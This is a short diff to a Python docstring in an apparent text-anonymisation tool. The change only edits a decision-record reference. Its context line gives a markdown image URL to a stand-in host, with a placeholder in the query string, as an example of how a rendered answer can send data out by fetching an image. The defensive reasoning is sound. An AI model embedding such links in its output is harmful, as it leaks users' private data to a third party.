@@ -2,7 +2,7 @@
 
 A page that shows an answer may fetch the image ``![](https://elsewhere/?d=[PERSONNE_7K4Q2M])`` at once. So a
 placeholder inside an address stays as it is, unless the caller's own text had that value at that very place.
-The reading does not depend on how the text is cut. See docs/decisions/0012-addresses.md.
+The reading does not depend on how the text is cut. See docs/decisions/0010-addresses.md.
 """
 
 from __future__ import annotations
